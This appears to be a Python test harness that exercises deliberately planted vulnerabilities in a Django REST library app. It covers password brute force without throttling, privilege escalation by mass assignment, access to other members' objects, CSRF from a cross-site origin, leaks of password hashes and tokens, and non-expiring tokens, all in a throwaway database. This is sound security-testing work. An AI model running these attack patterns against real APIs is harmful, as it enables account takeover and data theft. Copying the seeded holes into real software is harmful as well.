"""What the holes planted in tests/adopt/library let an attacker do: one function each, True while the attack succeeds.

Each function gets `client_factory`, which makes a DRF APIClient (with `enforce_csrf_checks=True` where a browser is
meant), and prepares its victims in the database itself; the attacker then has only what a member or a visitor has.
They run under the settings of the project, in an empty database that is thrown away. To see them all:

    cd tests/adopt/library && python ../attacks/library.py
"""

from __future__ import annotations

import base64
import os
import sys
from collections.abc import Callable
from typing import Any

ClientFactory = Callable[..., Any]
PASSWORD = "a-long-walk-to-the-harbour"
GUESSES = 320  # more than the project's 300 a minute for visitors


def _member(name: str) -> Any:
    from django.contrib.auth.models import User

    return User.objects.create_user(name, f"{name}@library.example", PASSWORD)


def _signed_in(client_factory: ClientFactory, user: Any) -> Any:
    client = client_factory()
    client.credentials(HTTP_AUTHORIZATION=f"Token {user.auth_token.key}")
    return client


def _book() -> Any:
    from catalogue.models import Author, Book

    return Book.objects.create(isbn="9789720049", title="Os Maias", author=Author.objects.create(name="Eça"))


def _guessed(attempt: Callable[[str], Any]) -> bool:
    wrong = [attempt(f"guess-{number}").status_code for number in range(GUESSES)]
    return 429 not in wrong and attempt(PASSWORD).status_code == 200


def attack_anyone_writes(client_factory: ClientFactory) -> bool:
    """A visitor opens a branch."""
    from catalogue.models import Branch

    branch = {"name": "Free coffee", "street": "Rua do Engano 1", "opens": "00:00", "closes": "23:59"}
    client_factory().post("/api/branches/", branch, format="json")
    return Branch.objects.filter(name="Free coffee").exists()


def attack_anyone_reads(client_factory: ClientFactory) -> bool:
    """A visitor reads what the library pays to whom."""
    from catalogue.models import Purchase

    Purchase.objects.create(book=_book(), supplier="Bertrand", price="12.50")
    return b"Bertrand" in client_factory().get("/api/purchases/").content


def attack_writable_privilege(client_factory: ClientFactory) -> bool:
    """A member becomes staff, and reads the list of the office."""
    mallory = _member("mallory")
    client = _signed_in(client_factory, mallory)
    client.patch("/api/me/", {"is_staff": True}, format="json")
    return bool(client.get("/api/members/").status_code == 200)


def attack_password_out(client_factory: ClientFactory) -> bool:
    """A member reads the hash of another's password in a reading circle."""
    from members.models import Circle

    victim = _member("victim")
    Circle.objects.create(name="Tuesdays", book=_book()).people.add(victim)
    answer = _signed_in(client_factory, _member("mallory")).get("/api/circles/")
    return victim.password.encode() in answer.content


def attack_object_by_hand(client_factory: ClientFactory) -> bool:
    """A member reads the first lines of another's document, of which the download is refused."""
    from django.core.files.base import ContentFile

    from documents.models import Document

    file = ContentFile(b"To be opened after my death.", name="will.txt")
    document = Document.objects.create(title="Will", owner=_member("victim"), file=file)
    client = client_factory()
    client.force_login(_member("mallory"))
    refused = client.get(f"/desk/documents/{document.pk}/download/").status_code == 403
    return refused and b"after my death" in client.get(f"/desk/documents/{document.pk}/excerpt/").content


def attack_detached_permission(client_factory: ClientFactory) -> bool:
    """A member uses up the renewals of another's loan, past IsBorrower."""
    from lending.models import Loan

    loan = Loan.objects.create(book=_book(), borrower=_member("victim"))
    _signed_in(client_factory, _member("mallory")).post(f"/api/loans/{loan.pk}/extend/")
    loan.refresh_from_db()
    return bool(loan.renewals == 1)


def attack_object_unchecked_reservation(client_factory: ClientFactory) -> bool:
    """A member cancels another's reservation to be next."""
    from lending.models import Reservation

    reservation = Reservation.objects.create(book=_book(), member=_member("victim"))
    _signed_in(client_factory, _member("mallory")).delete(f"/api/reservations/{reservation.pk}/")
    return not Reservation.objects.exists()


def attack_object_unchecked_review(client_factory: ClientFactory) -> bool:
    """A member puts words into another's mouth."""
    from catalogue.models import Review

    review = Review.objects.create(book=_book(), author=_member("victim"), stars=5, text="Wonderful.")
    client = _signed_in(client_factory, _member("mallory"))
    client.patch(f"/api/reviews/{review.pk}/", {"stars": 1, "text": "Trash."}, format="json")
    review.refresh_from_db()
    return bool(review.text == "Trash." and review.author.username == "victim")


def attack_list_leaks(client_factory: ClientFactory) -> bool:
    """A member reads in the list the note of a collection that the detail route hides."""
    from documents.models import Collection

    collection = Collection.objects.create(
        name="Family", owner=_member("victim"), note="The key is under the mat."
    )
    client = _signed_in(client_factory, _member("mallory"))
    hidden = client.get(f"/api/collections/{collection.pk}/").status_code == 404
    return hidden and b"under the mat" in client.get("/api/collections/").content


def attack_credential_in_query(client_factory: ClientFactory) -> bool:
    """Whoever reads the address of a calendar in a log has the account."""
    victim = _member("victim")
    logged = f"/api/due.ics?auth_token={victim.auth_token.key}"
    if client_factory().get(logged).status_code != 200:
        return False
    client = client_factory()
    client.credentials(HTTP_AUTHORIZATION="Token " + logged.partition("auth_token=")[2])
    client.patch("/api/me/", {"email": "mallory@evil.example"}, format="json")
    victim.refresh_from_db()
    return bool(victim.email == "mallory@evil.example")


def attack_login_unlimited(client_factory: ClientFactory) -> bool:
    """A visitor guesses a password at the door where tokens are handed out."""
    _member("victim")
    client = client_factory()
    return _guessed(
        lambda word: client.post("/api/token/", {"username": "victim", "password": word}, format="json")
    )


def attack_basic_auth(client_factory: ClientFactory) -> bool:
    """A visitor guesses a password at the feed for e-readers."""
    _member("victim")
    client = client_factory()

    def attempt(word: str) -> Any:
        basic = base64.b64encode(f"victim:{word}".encode()).decode()
        return client.get("/api/opds/", HTTP_AUTHORIZATION=f"Basic {basic}")

    return _guessed(attempt)


def attack_csrf_exempt(client_factory: ClientFactory) -> bool:
    """Another site's form uses up the renewals of a member who is logged in."""
    from lending.models import Loan

    victim = _member("victim")
    loan = Loan.objects.create(book=_book(), borrower=victim)
    browser = client_factory(enforce_csrf_checks=True)
    browser.force_login(victim)
    browser.post("/desk/loans/renew/", HTTP_ORIGIN="https://evil.example", HTTP_SEC_FETCH_SITE="cross-site")
    loan.refresh_from_db()
    return bool(loan.renewals == 1)


def attack_token_forever(client_factory: ClientFactory) -> bool:
    """A token stolen five years ago is good after its owner has changed the password."""
    from datetime import timedelta

    from django.utils import timezone
    from rest_framework.authtoken.models import Token

    victim = _member("victim")
    Token.objects.filter(user=victim).update(created=timezone.now() - timedelta(days=5 * 365))
    thief = _signed_in(client_factory, victim)
    change = {"old": PASSWORD, "new": "another-walk-to-the-sea"}
    _signed_in(client_factory, victim).post("/api/me/password/", change, format="json")
    victim.refresh_from_db()
    changed = victim.check_password(change["new"])
    return bool(changed and thief.get("/api/me/").status_code == 200)


def attack_unbounded_list(client_factory: ClientFactory) -> bool:
    """A member has the whole table read, serialized and sent by one request."""
    from lending.models import Suggestion

    mallory = _member("mallory")
    Suggestion.objects.bulk_create(Suggestion(member=mallory, title=f"Book {n}") for n in range(500))
    answer = _signed_in(client_factory, mallory).get("/api/suggestions/")
    return answer.status_code == 200 and answer.content.count(b'"title"') == 500


def attack_order_by_anything(client_factory: ClientFactory) -> bool:
    """A member learns how the hashes of passwords compare: one who changes a password finds another's by halving."""
    from django.contrib.auth.models import User

    for name in ("ana", "bea", "eva", "rui", "ines"):
        _member(name)
    client = _signed_in(client_factory, _member("mallory"))
    by_hash = list(User.objects.order_by("password").values_list("username", flat=True))
    for ordering, expected in (("password", by_hash), ("-password", by_hash[::-1])):
        answer = client.get("/api/directory/", {"ordering": ordering})
        if answer.status_code != 200:
            return False
        if [person["username"] for person in answer.json()["results"]] != expected:
            return False
    return True


def gain_a_key_passes_for_a_member(client_factory: ClientFactory) -> bool:
    """The partner's key, which is no member's, reads who the members are; so it must be after a move as well."""
    from rest_framework_api_key.models import APIKey

    _member("ana")
    _, key = APIKey.objects.create_key(name="partner")
    return b"ana" in client_factory().get("/api/directory/", HTTP_AUTHORIZATION=f"Api-Key {key}").content


def main() -> int:
    """Run every attack in a database of its own; the exit status is 0 if all succeed."""
    sys.argv[1:] = ["test"]  # the settings of the project know its tests by this word
    sys.path.insert(0, os.curdir)
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings")

    import django
    from django.core.cache import cache
    from django.db import connection, transaction
    from django.test.utils import setup_test_environment
    from rest_framework.test import APIClient

    django.setup()
    setup_test_environment()
    connection.creation.create_test_db(verbosity=0)
    stopped = 0
    for name, attack in list(globals().items()):
        if name.startswith("attack_"):
            cache.clear()
            with transaction.atomic():
                succeeded = attack(APIClient)
                transaction.set_rollback(True)
            stopped += not succeeded
            print(f"{name:40} {'succeeds' if succeeded else 'is stopped'}")
    return 1 if stopped else 0


if __name__ == "__main__":
    sys.exit(main())
